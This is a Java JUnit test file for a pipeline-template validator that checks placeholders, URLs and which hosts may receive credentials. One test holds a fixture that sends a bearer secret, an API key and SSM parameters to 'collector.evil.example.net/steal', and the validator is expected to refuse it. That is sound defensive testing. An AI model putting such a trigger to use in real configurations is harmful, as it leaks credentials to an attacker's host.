package dev.interlock.model.validation;

import static org.assertj.core.api.Assertions.assertThat;

import dev.interlock.model.archetype.Archetype;
import dev.interlock.model.archetype.TraitDefinition;
import dev.interlock.model.catalog.ArchetypeCatalog;
import dev.interlock.model.pipeline.ReadinessRule;
import dev.interlock.model.runtime.EnvVar;
import dev.interlock.model.secret.OutboundPolicy;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** Registration refuses every template that cannot work, at its path, before the pipeline exists. */
class TemplateValidationTest {

    private static final String HEAD = """
            name: tpl
            archetype: batch-ingestion
            traits:
              source-freshness: {evaluator: "builtin:always-pass"}
              upstream-dependency: {evaluator: "builtin:always-pass"}
              resource-availability: {evaluator: "builtin:always-pass"}
            """;

    private static final OutboundPolicy DEPLOYED = OutboundPolicy.fromEnvironment(Map.of(
            EnvVar.INTERLOCK_SECRETS_PREFIX, "interlock/",
            EnvVar.INTERLOCK_SSM_PARAMETER_PREFIX, "/interlock/",
            EnvVar.INTERLOCK_SECRET_HOSTS,
                    "secret:interlock/airflow*=airflow.example.com;INTERLOCK_AIRFLOW_*=airflow.example.com;"
                            + "ssm:/interlock/evaluators/*=checks.example.com,evaluators.example.com")::get);

    private static List<String> errors(OutboundPolicy policy, String yaml) {
        return new PipelineValidation(ArchetypeCatalog.bundled()::find, policy)
                .validateText(yaml).errors().stream()
                        .map(e -> e.path() + ": " + e.message())
                        .toList();
    }

    private static List<String> errors(String yaml) {
        return errors(DEPLOYED, yaml);
    }

    @Test
    void everyExecutionValueIsAcceptedWhereverATriggerTakesText() {
        assertThat(errors(HEAD + """
                trigger:
                  type: http
                  url: "https://jobs.example.com/${pipelineId}/run?date=${date}&hour=${hour}&s=${scheduleId}&r=${runId}"
                  headers: {X-Run: "${runId}"}
                  body: '{"d":"${DATE}","spark":"$${not.a.placeholder}"}'
                schedules: [{name: h00}, {name: hourly, cron: "0 * * * *"}]
                """)).isEmpty();
    }

    @Test
    void unknownPlaceholdersAreRefusedAtTheirPathInEveryTriggerType() {
        assertThat(errors(HEAD + """
                trigger: {type: http, url: "https://x.example.com/${day}", headers: {X-A: "${run}"}, body: "${hours}"}
                """))
                .containsExactlyInAnyOrder(
                        "$.trigger.url: " + unknown("${day}"),
                        "$.trigger.headers.X-A: " + unknown("${run}"),
                        "$.trigger.body: " + unknown("${hours}"));
        assertThat(errors(HEAD + """
                trigger: {type: emr-serverless, applicationId: a, executionRoleArn: "arn:aws:iam::1:role/r", entryPoint: "s3://b/e.py",
                  entryPointArguments: ["--date", "${dte}"], sparkSubmitParameters: "--conf x=${spark.y}", arguments: {k: "${x"}}
                """))
                .containsExactlyInAnyOrder(
                        "$.trigger.entryPointArguments[1]: " + unknown("${dte}"),
                        "$.trigger.sparkSubmitParameters: " + unknown("${spark.y}"),
                        "$.trigger.arguments.k: '${x' opens a placeholder that is never closed (write $${ for a literal ${)");
        assertThat(errors(HEAD + """
                trigger: {type: airflow, url: "https://airflow.example.com", dagId: d, conf: {outer: {inner: ["${when}"]}}}
                """)).containsExactly("$.trigger.conf.outer.inner[0]: " + unknown("${when}"));
        assertThat(errors(HEAD + """
                trigger: {type: databricks, workspaceUrl: "https://adb.example.com", jobId: 1, notebookParams: {d: "${today}"}}
                """)).containsExactly("$.trigger.notebookParams.d: " + unknown("${today}"));
        assertThat(errors(HEAD + """
                trigger: {type: lambda, functionName: f, payload: {when: {day: "${day}"}}}
                """)).containsExactly("$.trigger.payload.when.day: " + unknown("${day}"));
        assertThat(errors(HEAD + """
                trigger: {type: step-function, stateMachineArn: "arn:aws:states:us-east-1:1:stateMachine:s", arguments: {d: "${dt}"}}
                """)).containsExactly("$.trigger.arguments.d: " + unknown("${dt}"));
    }

    /** Registration refuses ${hour} where a schedule has no hour to fill it with. */
    private static final String HOURLESS_DAILY =
            "uses ${hour}, which schedule 'daily' cannot fill: only the windows of a "
                    + "cron schedule (e.g. {name: hourly, cron: \"0 * * * *\"}) and schedules named h00…h23 have an hour";

    private static String unknown(String written) {
        return "unknown placeholder " + written
                + "; known: ${date}, ${hour}, ${scheduleId}, ${pipelineId}, ${runId}, and in "
                + "headers and bodies ${INTERLOCK_…}, ${secret:…}, ${ssm:…} (write $${…} to send "
                + written.substring(1)
                + " literally)";
    }

    @Test
    void aUrlIsTriedWithTheValuesOfEachScheduleAndRefusedForTheFirstItBreaks() {
        assertThat(errors(HEAD + """
                trigger: {type: http, url: "https://jobs-${hour}.example.com/run"}
                schedules: [{name: h01}, {name: daily}]
                """))
                .containsExactly(
                        "$.trigger.url: 'https://jobs-${hour}.example.com/run' is not a valid URL for schedule "
                                + "'daily': it becomes 'https://jobs-.example.com/run', which is not an absolute http(s) URL",
                        "$.trigger.url: " + HOURLESS_DAILY);
        assertThat(errors(HEAD + """
                trigger: {type: http, url: "${date}/run"}
                """))
                .containsExactly("$.trigger.url: '${date}/run' is not a valid URL for schedule 'daily': it becomes "
                        + "'2026-01-31/run', which is not an absolute http(s) URL");
        assertThat(errors(HEAD + """
                trigger: {type: airflow, url: "https://user:pw@airflow.example.com", dagId: d}
                """))
                .containsExactly("$.trigger.url: 'https://user:pw@airflow.example.com' carries credentials in the URL, "
                        + "which are not allowed; send them in a header");
    }

    @Test
    void anAirflowBodyMustBeAJsonObjectOnceFilledIn() {
        assertThat(errors(HEAD + """
                trigger: {type: airflow, url: "https://airflow.example.com", dagId: d, body: '{"hour": ${hour}}'}
                schedules: [{name: h15}, {name: daily}]
                """))
                .containsExactly(
                        "$.trigger.body: must be a JSON object (it becomes the DAG run conf) for schedule 'daily'",
                        "$.trigger.body: " + HOURLESS_DAILY);
        assertThat(errors(HEAD + """
                trigger: {type: airflow, url: "https://airflow.example.com", dagId: d, body: '{"token": "${INTERLOCK_AIRFLOW_TOKEN}"}'}
                """)).isEmpty();
    }

    @Test
    void credentialsGoOnlyInHeadersAndBodies() {
        assertThat(errors(HEAD + """
                trigger: {type: http, url: "https://airflow.example.com/run?key=${INTERLOCK_AIRFLOW_TOKEN}"}
                """))
                .containsExactly("$.trigger.url: ${INTERLOCK_AIRFLOW_TOKEN}: a credential may not be part of a URL "
                        + "(URLs are logged and stored with the run); send it in a header");
        assertThat(errors(HEAD + """
                trigger: {type: glue, jobName: j, arguments: {"--token": "${secret:interlock/airflow#token}"}}
                """))
                .containsExactly("$.trigger.arguments.--token: ${secret:interlock/airflow#token}: credentials may be "
                        + "sent only in the headers and body of http, airflow and databricks triggers and in HTTP evaluator headers; "
                        + "this field is handed to the job as data");
    }

    @Test
    void aCredentialIsAcceptedOnlyForAHostTheDeploymentAllowsItAndANameItMayRead() {
        assertThat(errors(HEAD + """
                trigger:
                  type: airflow
                  url: "https://airflow.example.com"
                  dagId: d
                  headers: {Authorization: "Bearer ${secret:interlock/airflow/prod#token}", X-Key: "$INTERLOCK_AIRFLOW_KEY"}
                """)).isEmpty();
        assertThat(errors(HEAD + """
                trigger:
                  type: http
                  url: "https://collector.evil.example.net/steal"
                  headers: {Authorization: "Bearer ${secret:interlock/airflow/prod#token}"}
                  body: '{"k":"${INTERLOCK_AIRFLOW_KEY}","p":"${ssm:/other/param}","s":"${INTERLOCK_SECRET_HOSTS}"}'
                """))
                .containsExactlyInAnyOrder(
                        "$.trigger.headers.Authorization: ${secret:interlock/airflow/prod#token} may not be sent to host "
                                + "'collector.evil.example.net': INTERLOCK_SECRET_HOSTS allows it only to airflow.example.com",
                        "$.trigger.body: ${INTERLOCK_AIRFLOW_KEY} may not be sent to host 'collector.evil.example.net': "
                                + "INTERLOCK_SECRET_HOSTS allows it only to airflow.example.com",
                        "$.trigger.body: SSM parameter '/other/param' is outside the names this deployment may read ('/interlock/…', "
                                + "INTERLOCK_SSM_PARAMETER_PREFIX)",
                        "$.trigger.body: ${ssm:/other/param} may not be sent to host 'collector.evil.example.net': "
                                + "INTERLOCK_SECRET_HOSTS names no host for ssm:/other/param",
                        "$.trigger.body: INTERLOCK_SECRET_HOSTS is a setting of the functions, not a credential to send",
                        "$.trigger.body: ${INTERLOCK_SECRET_HOSTS} may not be sent to host 'collector.evil.example.net': "
                                + "INTERLOCK_SECRET_HOSTS names no host for INTERLOCK_SECRET_HOSTS");
    }

    @Test
    void aDeploymentWithoutSecretsConfiguredRefusesEveryCredentialSayingWhatToSet() {
        assertThat(errors(OutboundPolicy.NONE, HEAD + """
                trigger: {type: databricks, workspaceUrl: "https://adb.example.com", jobId: 1,
                  headers: {Authorization: "Bearer ${secret:dbx/token}"}}
                """))
                .containsExactly(
                        "$.trigger.headers.Authorization: Secrets Manager secret references are not enabled in this deployment "
                                + "(INTERLOCK_SECRETS_PREFIX is not set; the CDK context option secretsPrefix sets it)",
                        "$.trigger.headers.Authorization: ${secret:dbx/token} may not be sent to host 'adb.example.com': "
                                + "INTERLOCK_SECRET_HOSTS names no host for secret:dbx/token");
    }

    @Test
    void httpEvaluatorHeadersAreCheckedAgainstTheEvaluatorsHost() {
        String traits = """
                name: tpl
                archetype: batch-ingestion
                traits:
                  source-freshness:
                    evaluator: "https://checks.example.com/freshness"
                    headers: {Authorization: "Bearer ${ssm:/interlock/evaluators/token}", X-Date: "${date}"}
                  upstream-dependency:
                    evaluator: "https://elsewhere.example.com/x"
                    headers: {Authorization: "${ssm:/interlock/evaluators/token}", X-Run: "${runId}"}
                  resource-availability:
                    evaluator: "builtin:always-pass"
                    headers: {X-A: "a"}
                trigger: {type: glue, jobName: j}
                """;
        assertThat(errors(traits))
                .containsExactlyInAnyOrder(
                        "$.traits.upstream-dependency.headers.Authorization: ${ssm:/interlock/evaluators/token} may not be sent to "
                                + "host 'elsewhere.example.com': INTERLOCK_SECRET_HOSTS allows it only to checks.example.com, "
                                + "evaluators.example.com",
                        "$.traits.upstream-dependency.headers.X-Run: ${runId} is not known when traits are evaluated (no run exists yet)",
                        "$.traits.resource-availability.headers: headers are sent only to HTTP evaluators (http(s):// URLs or "
                                + "relative paths)");
    }

    @Test
    void relativeEvaluatorsSendTheirHeadersToTheEvaluatorBaseUrl() {
        String relative = HEAD.replace(
                        "source-freshness: {evaluator: \"builtin:always-pass\"}",
                        "source-freshness: {evaluator: \"freshness\", headers: {Authorization: \"${ssm:/interlock/evaluators/t}\"}}")
                + "trigger: {type: glue, jobName: j}\n";
        assertThat(errors(relative))
                .containsExactly(
                        "$.traits.source-freshness.headers: the evaluator is a relative path, "
                                + "but EVALUATOR_BASE_URL is not set in this deployment, so where its headers would go is unknown");
        OutboundPolicy withBase = new OutboundPolicy(
                DEPLOYED.secretsPrefix(),
                DEPLOYED.parameterPrefix(),
                DEPLOYED.hosts(),
                java.util.Optional.of(java.net.URI.create("https://evaluators.example.com/v1")));
        assertThat(errors(withBase, relative)).isEmpty();
    }

    @Test
    void headersOnATraitWithoutItsOwnEvaluatorGoToTheArchetypesEvaluator() {
        Archetype checked = new Archetype(
                "checked",
                "",
                List.of(new TraitDefinition(
                        "freshness", "", "https://checks.example.com/freshness", Map.of(), 300, 30)),
                List.of(),
                ReadinessRule.ALL_REQUIRED_PASS);
        PipelineValidation validation = new PipelineValidation(
                name -> name.equals("checked") ? java.util.Optional.of(checked) : java.util.Optional.empty(), DEPLOYED);
        String pipeline = """
                name: tpl
                archetype: checked
                traits:
                  freshness: {headers: {Authorization: "Bearer ${ssm:/interlock/evaluators/token}"}}
                trigger: {type: glue, jobName: j}
                """;
        assertThat(validation.validateText(pipeline).errors()).isEmpty();
        assertThat(validation
                        .validateText(pipeline.replace("/interlock/evaluators/token", "/interlock/other"))
                        .errors())
                .extracting(e -> e.path() + ": " + e.message())
                .containsExactly(
                        "$.traits.freshness.headers.Authorization: ${ssm:/interlock/other} may not be sent to host "
                                + "'checks.example.com': INTERLOCK_SECRET_HOSTS names no host for ssm:/interlock/other");
    }
}
